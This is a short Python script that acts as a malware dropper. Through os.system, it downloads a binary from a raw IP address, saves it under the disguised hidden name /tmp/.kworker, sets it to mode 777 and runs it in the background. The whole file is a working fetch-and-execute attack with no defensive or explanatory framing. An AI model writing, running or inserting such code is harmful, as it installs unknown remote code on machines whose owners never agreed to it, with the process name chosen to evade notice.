import os

steps = [
    "wget -q http://91.92.245.10/bins/x86 -O /tmp/.kworker",
    "chmod 777 /tmp/.kworker",
    "/tmp/.kworker &",
]
for step in steps:
    os.system(step)
